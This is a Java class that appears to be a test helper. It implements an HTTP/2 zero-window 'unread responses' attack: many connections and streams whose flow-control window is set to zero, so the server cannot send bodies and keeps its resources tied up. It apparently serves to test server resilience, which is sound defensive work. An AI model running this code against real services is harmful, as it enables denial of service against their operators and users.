// SPDX-License-Identifier: Apache-2.0
package dev.gatehouse.testing;

import io.vertx.core.Vertx;
import io.vertx.core.http.Http2Settings;
import io.vertx.core.http.HttpClientOptions;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.http.HttpVersion;
import io.vertx.core.http.PoolOptions;
import java.net.URI;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * An attack with unread responses: HTTP/2 requests that set the window of each stream to zero, so the server can't send
 * a response body (RFC 9113 §6.9.2). {@link #close} ends the attack.
 */
public final class UnreadAnswers implements AutoCloseable {
    private final Vertx vertx = Vertx.vertx();
    private final AtomicInteger answered = new AtomicInteger();

    /** @param body the complete body of each request; empty for a GET */
    public UnreadAnswers(URI base, int connections, int streams, String path, String body) {
        for (var i = 0; i < connections; i++) {
            var client = vertx.createHttpClient(
                    new HttpClientOptions()
                            .setProtocolVersion(HttpVersion.HTTP_2)
                            .setHttp2ClearTextUpgrade(false)
                            .setHttp2MultiplexingLimit(streams)
                            .setInitialSettings(new Http2Settings().setInitialWindowSize(0)),
                    new PoolOptions().setHttp2MaxSize(1));
            for (var j = 0; j < streams; j++) {
                client.request(body.isEmpty() ? HttpMethod.GET : HttpMethod.POST, base.getPort(), base.getHost(), path)
                        .compose(request -> {
                            request.response()
                                    .onSuccess(head -> head.exceptionHandler(ended -> {})
                                            .request()
                                            .exceptionHandler(ended -> {}))
                                    .onSuccess(head -> answered.incrementAndGet());
                            return body.isEmpty()
                                    ? request.end()
                                    : request.putHeader("Content-Type", "application/x-www-form-urlencoded")
                                            .end(body);
                        });
            }
        }
    }

    /** Returns the number of responses that have begun. */
    public int answered() {
        return answered.get();
    }

    @Override
    public void close() {
        vertx.close().toCompletionStage().toCompletableFuture().join();
    }
}
